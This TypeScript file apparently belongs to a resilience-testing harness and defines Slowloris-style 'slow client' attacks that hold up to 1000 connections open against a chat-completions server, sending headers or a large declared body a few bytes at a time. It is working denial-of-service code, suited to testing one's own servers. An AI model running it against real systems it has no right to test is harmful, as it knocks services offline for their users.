import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { sized } from "../sized.js";
import type { Attack, Victim } from "./attack.js";

/** Milliseconds between two pieces of a connection. */
const PAUSE_MS = 100;

interface SlowConnections {
  readonly name: string;
  readonly connections: number;
  /** What each connection sends first, and then again and again. */
  readonly first: (victim: Victim) => string;
  readonly piece: () => string;
}

/** Attacks with many connections, each of which sends a little now and then. Replaces connections that are closed. */
function trickle({ name, connections, first, piece }: SlowConnections): Attack {
  return {
    name,
    bytes: () => 0,
    run: async (victim, signal, onAnswer) => {
      const { hostname, port } = new URL(victim.url);
      const open = (): Socket => {
        const socket = connect({ host: hostname, port: Number(port) });
        socket.on("error", () => undefined);
        socket.on("data", (bytes) => onAnswer(bytes.toString("latin1", 9, 12)));
        socket.write(first(victim));
        return socket;
      };
      let sockets = Array.from({ length: connections }, open);
      while (!signal.aborted) {
        await sleep(PAUSE_MS);
        for (const socket of sockets) socket.write(piece());
        sockets = sockets.map((socket) => (socket.destroyed ? open() : socket));
      }
      for (const socket of sockets) socket.destroy();
    },
  };
}

const POST = "POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n";

const SLOW_CONNECTIONS = sized(1000, 20);

/** Attacks by clients that send as slowly as they can. */
export const SLOW: readonly Attack[] = [
  trickle({
    name: `${SLOW_CONNECTIONS} connections that send headers slowly`,
    connections: SLOW_CONNECTIONS,
    first: () => POST,
    piece: () => "x-a: b\r\n",
  }),
  trickle({
    name: `${SLOW_CONNECTIONS} connections that send bodies slowly`,
    connections: SLOW_CONNECTIONS,
    first: ({ key }) => `${POST}authorization: Bearer ${key}\r\ncontent-length: 60000\r\n\r\n{"x":"`,
    piece: () => "x".repeat(64),
  }),
];
